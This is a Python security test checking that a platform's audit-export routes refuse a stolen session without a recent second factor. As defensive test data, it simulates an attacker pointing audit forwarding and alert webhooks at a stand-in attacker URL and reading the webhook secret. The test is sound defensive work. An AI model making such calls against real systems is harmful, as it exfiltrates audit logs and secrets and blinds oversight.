"""Issue 12, attack 4: the audit routes that send data out of the platform need a recent second factor.

A stolen session (password only, or a second factor older than the step-up age) of a user holding `audit.manage`
tries what the issue found open: forwarding the account's whole audit history to its own URL with backfill, an
alert rule with a webhook (new, and pointed at its URL on an existing rule), reading and rotating the audit webhook
secret. Each is refused with the RFC 9470 step-up 401, nothing changes, and no secret is in any answer; the same
user with a fresh step-up gets past the check (so the refusals are the step-up, not something else).
"""

from __future__ import annotations

from typing import Any

import pytest

from gateway.errors import STEP_UP_REASON
from tests.e2e.api_client import Http, Response
from tests.security.actors import Actor, Actors

ATTACKER_URL = "https://siem.attacker.example/ingest"
RULE_NAME = "exfiltrate everything"
PERMISSION = "audit.manage"


def _attempts(http: Http, headers: dict[str, str]) -> dict[str, Response]:
    rules = http.call("GET", "/v1/audit/alert-rules", headers=headers)  # not privileged: listing shows no secret
    assert rules.status == 200, rules.body
    existing = rules.json()["rules"][0]["rule_id"]  # every account has its default rules
    forward = {"enabled": True, "kind": "FORWARDING_KIND_WEBHOOK", "url": ATTACKER_URL, "backfill": True}
    rule = {"name": RULE_NAME, "actions": ["gateway.*"], "webhook_url": ATTACKER_URL}
    return {
        "forwarding with backfill": http.call("PUT", "/v1/audit/forwarding", headers=headers, json_body=forward),
        "alert rule with a webhook": http.call("POST", "/v1/audit/alert-rules", headers=headers, json_body=rule),
        "webhook on an existing rule": http.call(
            "PUT", f"/v1/audit/alert-rules/{existing}", headers=headers, json_body=rule),
        "read the webhook secret": http.call("GET", "/v1/audit/webhook-secret", headers=headers),
        "rotate the webhook secret": http.call("POST", "/v1/audit/webhook-secret/rotate", headers=headers,
                                               json_body={}),
    }


def _state(http: Http, headers: dict[str, str]) -> dict[str, Any]:
    forwarding = http.call("GET", "/v1/audit/forwarding", headers=headers)
    rules = http.call("GET", "/v1/audit/alert-rules", headers=headers)
    assert forwarding.status == 200 and rules.status == 200, (forwarding.body, rules.body)
    return {"forwarding": forwarding.json().get("forwarding", {}), "rules": rules.json()["rules"]}


@pytest.mark.parametrize("stolen", ["session_no_mfa", "session_stale_mfa"])
def test_audit_data_out_routes_refuse_a_session_without_a_recent_second_factor(
    stolen: str, actors: Actors, http: Http
) -> None:
    owner = actors.make("session_fresh_mfa", PERMISSION)
    thief = actors.make(stolen, PERMISSION)
    assert PERMISSION in thief.permissions and not thief.fresh_mfa
    secret_before = _secret(http, owner)
    assert len(secret_before["secret"]) >= 16
    before = _state(http, owner.headers)

    for what, r in _attempts(http, thief.headers).items():
        assert r.status == 401, f"{what}: {r.status} {r.body[:300]!r}"
        assert 'error="insufficient_user_authentication"' in r.headers.get("www-authenticate", ""), what
        assert r.json()["error"]["reason"] == STEP_UP_REASON, what
        assert secret_before["secret"] not in r.body.decode(), what

    after = _state(http, owner.headers)
    assert after == before, "a refused call changed the account's forwarding or alert rules"
    assert _secret(http, owner) == secret_before, "the webhook secret was rotated"

    # The same calls with a fresh second factor get past the step-up check (whatever they then answer, e.g. 400
    # for a destination that does not resolve): the refusals above were the step-up.
    for what, r in _attempts(http, owner.headers).items():
        assert r.status not in (401, 403), f"{what}: {r.status} {r.body[:300]!r}"


def _secret(http: Http, owner: Actor) -> dict[str, Any]:
    r = http.call("GET", "/v1/audit/webhook-secret", headers=owner.headers)
    assert r.status == 200, r.body
    return dict(r.json())
